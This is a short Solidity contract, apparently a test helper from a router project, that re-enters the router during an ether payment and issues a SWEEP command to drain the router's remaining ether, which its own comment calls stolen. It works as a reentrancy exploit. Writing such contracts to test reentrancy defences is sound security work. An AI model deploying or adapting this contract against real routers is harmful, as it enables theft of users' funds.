// SPDX-License-Identifier: MIT
pragma solidity ^0.8.17;

interface IRouter {
    function execute(bytes calldata commands, bytes[] calldata inputs) external payable;
}

/// @notice When the router pays it, immediately requests all the ether that is left in the router.
contract ReenteringPayee {
    IRouter private immutable router;

    constructor(IRouter _router) {
        router = _router;
    }

    receive() external payable {
        // The second payment is the stolen ether.
        if (msg.sender != address(router) || address(router).balance == 0) return;
        bytes[] memory inputs = new bytes[](1);
        // SWEEP of any amount of ether to this contract.
        inputs[0] = abi.encode(address(0), address(this), 0);
        router.execute(hex'04', inputs);
    }
}
